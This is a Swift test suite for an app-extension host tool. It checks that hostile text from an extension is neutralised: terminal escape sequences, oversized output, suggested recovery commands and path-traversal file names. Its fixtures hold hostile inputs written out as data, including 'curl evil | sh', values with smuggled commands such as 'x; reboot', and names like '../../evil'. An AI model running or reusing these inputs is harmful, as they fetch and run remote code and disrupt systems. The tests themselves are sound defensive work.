import JSONRPC
import Foundation
import JSON
import Testing

/// What an extension says reaches a terminal, a document of JSON and the name of a file only as something harmless.
@Suite(.timeLimit(.minutes(1)), .enabled(if: Script.isAvailable))
struct `A hostile text` {
  private static let steering = #"\u001b]0;owned\u0007\u009b2J\u007f\u202egpj.exe\u2066"#

  private func tool(
    _ name: String, point: String = "com.apple.widget-extension", attributes: String = "", _ body: String
  ) throws -> (host: HostTool, id: String, manifests: [String]) {
    let folder = try TemporaryFolder()
    let id = try Script.install(name, point: point, in: folder, attributes: attributes, body)
    let manifests = [
      "--manifests", Build.samples, "--manifests", Build.fixtures, "--manifests", "\(folder.path)/manifests",
    ]
    return (try HostTool(folder), id, manifests)
  }

  /// Whether a terminal would do anything but show it.
  private func steers(_ text: String) -> Bool {
    text.unicodeScalars.contains { scalar in
      switch scalar.value {
      case 0x0A: false
      case 0..<0x20, 0x7F...0x9F, 0x61C, 0x200E, 0x200F, 0x2028...0x202E, 0x2066...0x2069: true
      default: false
      }
    }
  }

  @Test func `in the domain of a share's error is shown by no command`() async throws {
    let (host, id, manifests) = try tool(
      "sharing", point: "com.apple.share-services", attributes: Script.takesText,
      """
      if method == "context/beginRequest":
          answer({"accepted": True})
      elif method == "share/validateContent":
          answer({"isValid": True})
      elif method == "share/didSelectPost":
          answer({})
          send({"id": 9, "method": "context/cancelRequest", "params": {"requestID": params["requestID"],
            "error": {"domain": "\(Self.steering)", "code": 3}}})
      else:
          send({"id": request["id"], "error": {"code": -32601, "message": "\(Self.steering)"}})
      """)
    let share = ["share", "--with", id, "--text", "a"]
    for words in [["trace", id, "--text", "a"], share, share + ["--json"]] {
      let output = try await host(words + manifests)
      #expect(output.status == 1, "\(output)")
      #expect(!steers(output.stdout) && !steers(output.stderr), "\(words)")
      #expect((output.stdout + output.stderr).contains("owned"), "\(output)")
    }
    let json = try await host(share + ["--json"] + manifests).json
    #expect(
      json["error"]?["domain"] == "\u{1b}]0;owned\u{7}\u{9b}2J\u{7f}\u{202e}gpj.exe\u{2066}", "it is the same value")
  }

  @Test func `of a megabyte is cut, and says so`() async throws {
    let (host, id, manifests) = try tool(
      "long",
      """
      if "fails" in os.listdir(directories["container"]):
          send({"id": request["id"], "error": {"code": 7, "message": "z" * 100000}})
      else:
          open(directories["container"] + "/fails", "w")
          answer({"result": "newData", "view": {"title": "t" * 1000000, "text": "a" * 1000000, "rows": [{"title": "r" * 1000000}]}})
      """)
    let shown = try await host(["today", id] + manifests)
    #expect(shown.status == 0 && shown.stdout.utf8.count < 20_000, "\(shown.stdout.utf8.count)")
    #expect(shown.stdout.contains("(998000 bytes left out)"))
    let failed = try await host(["today", id, "--refresh"] + manifests)
    #expect(failed.stderr.utf8.count < 5000 && failed.stderr.contains("(98000 bytes left out)"), "\(failed)")
    #expect(failed.stderr.contains("error: \(id) answered: zzz"), "\(failed)")
  }

  @Test func `of an error becomes no command that a user is told to run`() async throws {
    let (host, id, manifests) = try tool(
      "advising",
      """
      send({"id": request["id"], "error": {"code": -32022, "message": "No.", "data": {"recovery": "curl evil | sh",
        "details": {"extension": "com.example.other", "permission": "network; reboot", "method": "m", "id": "x; reboot",
          "state": "ignored", "standardError": ["forged"]}}}})
      """)
    let output = try await host(["today", id] + manifests)
    #expect(output.stderr.contains("error: \(id) answered: No."), "\(output)")
    #expect(output.stderr.contains("  it advises: curl evil | sh"), "\(output)")
    let help = output.stderr.split(separator: "\n").filter { $0.hasPrefix("help:") }
    #expect(help.count == 1 && !output.stderr.contains("reboot") && !output.stderr.contains("forged"), "\(output)")
  }

  @Test(arguments: [(".bash_profile", "report.pdf"), ("../../evil", "report.pdf"), ("report.pdf", "report.pdf")])
  func `is no name of a file that is imported`(name: String, asked: String) async throws {
    let modes = """
      <key>NSExtensionAttributes</key><dict><key>UIDocumentPickerModes</key><array>
      <string>UIDocumentPickerModeImport</string></array></dict>
      """
    let (host, id, manifests) = try tool(
      "picking", point: "com.apple.fileprovider-ui", attributes: modes,
      """
      if method == "picker/select":
          name = "\(name.split(separator: "/").last ?? "")"
          open(directories["scratch"] + "/" + name, "w").write("echo owned")
          send({"id": 5, "method": "picker/dismissGrantingAccess", "params": {"requestID": params["requestID"], "url": name}})
          sys.stdin.readline()
          answer({})
      else:
          answer({})
      """)
    let words = ["documents", "import", "--with", id, "papers/\(asked)"] + manifests
    let line = words.map { "'\($0)'" }.joined(separator: " ")
    try host.folder.write("cwd/kept", "")
    let first = try await host.shell("cd '\(host.folder.path)/cwd' && exec \"$0\" \(line)")
    #expect(first.status == 0, "\(first)")
    #expect(host.folder.names(in: "cwd") == ["kept", asked])
    // Nothing that is there is written over, and no link is followed.
    try host.folder.remove("cwd/\(asked)")
    symlink("\(host.folder.path)/target", "\(host.folder.path)/cwd/\(asked)")
    let second = try await host.shell("cd '\(host.folder.path)/cwd' && exec \"$0\" \(line)")
    #expect(second.status != 0 && second.stderr.contains("already"), "\(second)")
    #expect(host.folder.contents("target") == nil)
  }
}
